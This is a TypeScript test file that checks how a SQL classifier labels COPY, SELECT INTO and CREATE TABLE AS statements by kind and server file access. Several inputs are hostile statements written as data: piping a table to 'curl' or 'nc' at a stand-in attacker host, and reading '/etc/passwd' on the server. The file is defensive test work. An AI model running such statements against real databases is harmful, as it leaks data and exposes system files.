import { beforeAll, describe, expect, it } from 'vitest';
import { classifyUncached, loadParser } from '../../src/classify/classifier.js';
import type { StatementInfo } from '../../src/classify/statement-info.js';

/**
 * Classification of statements that copy data out of its table: COPY ... TO, COPY (query) TO,
 * SELECT INTO, CREATE TABLE AS; and COPY from or to server files and programs.
 */
beforeAll(async () => {
  await loadParser();
});

function one(sql: string): StatementInfo {
  const r = classifyUncached(sql);
  if (!r.ok) throw new Error(`expected ${JSON.stringify(sql)} to parse, got: ${r.message}`);
  expect(r.statements, sql).toHaveLength(1);
  return r.statements[0]!;
}

describe('classify: COPY to the client', () => {
  it('classifies COPY t TO STDOUT as an export reading t, with no server file access', () => {
    const st = one('COPY t TO STDOUT');
    expect(st.node).toBe('CopyStmt');
    expect(st.kind).toBe('export');
    expect(st.kinds).toEqual(['export']);
    expect(st.relations).toEqual([{ name: 't', access: 'read' }]);
    expect(st.serverFileAccess).toBeUndefined();
    expect(st.unanalysable).toEqual([]);
  });

  it('classifies COPY with a column list and options as an export of the schema-qualified table', () => {
    const st = one("COPY app.customers (id, email) TO STDOUT WITH (FORMAT csv, HEADER true)");
    expect(st.kind).toBe('export');
    expect(st.relations).toEqual([{ schema: 'app', name: 'customers', access: 'read' }]);
  });

  it('classifies COPY (query) TO STDOUT as an export with the relations of the query', () => {
    const st = one('COPY (SELECT a FROM s.x JOIN y ON true) TO STDOUT');
    expect(st.kind).toBe('export');
    expect(st.relations).toEqual([
      { schema: 's', name: 'x', access: 'read' },
      { name: 'y', access: 'read' },
    ]);
    expect(st.serverFileAccess).toBeUndefined();
  });

  it('finds functions in the query of COPY (query) TO STDOUT', () => {
    expect(one("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT").functions).toEqual(['pg_read_file']);
  });

  it('finds a data-modifying statement inside COPY (query) TO STDOUT', () => {
    const st = one('COPY (DELETE FROM t RETURNING *) TO STDOUT');
    expect(st.kinds).toEqual(expect.arrayContaining(['export', 'write']));
    expect(st.relations).toEqual([{ name: 't', access: 'write' }]);
  });
});

describe('classify: COPY from the client', () => {
  it('classifies COPY t FROM STDIN as a write to t', () => {
    const st = one('COPY t FROM STDIN');
    expect(st.kind).toBe('write');
    expect(st.kinds).toEqual(['write']);
    expect(st.relations).toEqual([{ name: 't', access: 'write' }]);
    expect(st.serverFileAccess).toBeUndefined();
    expect(st.unanalysable).toEqual([]);
  });

  it('finds functions in the WHERE clause of COPY FROM STDIN', () => {
    expect(one("COPY t FROM STDIN WHERE pg_read_file('x') IS NULL").functions).toEqual(['pg_read_file']);
  });
});

describe('classify: COPY with server files and programs', () => {
  it("marks COPY t TO '/file' as server file access, admin and unanalysable", () => {
    const st = one("COPY t TO '/tmp/out.csv'");
    expect(st.kind).toBe('export');
    expect(st.kinds).toEqual(expect.arrayContaining(['export', 'admin']));
    expect(st.serverFileAccess).toBe(true);
    expect(st.unanalysable).toHaveLength(1);
    expect(st.relations).toEqual([{ name: 't', access: 'read' }]);
  });

  it("marks COPY t FROM '/file' as a write with server file access", () => {
    const st = one("COPY t FROM '/etc/passwd'");
    expect(st.kind).toBe('write');
    expect(st.serverFileAccess).toBe(true);
    expect(st.unanalysable).toHaveLength(1);
  });

  it("marks COPY t FROM PROGRAM 'x' as a write with server file access, admin and unanalysable", () => {
    const st = one("COPY t FROM PROGRAM 'x'");
    expect(st.kind).toBe('write');
    expect(st.kinds).toEqual(expect.arrayContaining(['write', 'admin']));
    expect(st.serverFileAccess).toBe(true);
    expect(st.unanalysable).toHaveLength(1);
    expect(st.relations).toEqual([{ name: 't', access: 'write' }]);
  });

  it("marks COPY t TO PROGRAM 'curl ...' as an export with server file access", () => {
    const st = one("COPY t TO PROGRAM 'curl -d @- https://evil.example'");
    expect(st.kind).toBe('export');
    expect(st.kinds).toContain('admin');
    expect(st.serverFileAccess).toBe(true);
    expect(st.unanalysable).toHaveLength(1);
  });

  it("marks COPY (query) TO PROGRAM with the query's relations and server file access", () => {
    const st = one("COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil 1'");
    expect(st.serverFileAccess).toBe(true);
    expect(st.relations).toEqual([{ name: 'secrets', access: 'read' }]);
  });
});

describe('classify: copying rows into new tables', () => {
  it('gives SELECT ... INTO the export kind besides read', () => {
    const st = one('SELECT * INTO TEMP copy_of FROM customers');
    expect(st.kinds).toEqual(expect.arrayContaining(['read', 'export', 'ddl']));
    expect(st.relations).toContainEqual({ name: 'customers', access: 'read' });
  });

  it('gives CREATE TABLE AS the main kind export', () => {
    const st = one('CREATE TABLE x AS SELECT * FROM t');
    expect(st.kind).toBe('export');
    expect(st.kinds).toContain('ddl');
    expect(st.relations).toContainEqual({ name: 't', access: 'read' });
    expect(st.relations).toContainEqual({ name: 'x', access: 'ddl' });
  });

  it('classifies EXPLAIN ANALYZE CREATE TABLE AS as the export it runs', () => {
    const st = one('EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t');
    expect(st.kinds).toEqual(expect.arrayContaining(['export', 'ddl']));
  });

  it('does not treat an INSERT ... SELECT as an export', () => {
    expect(one('INSERT INTO archive SELECT * FROM t').kinds).toEqual(['write']);
  });
});
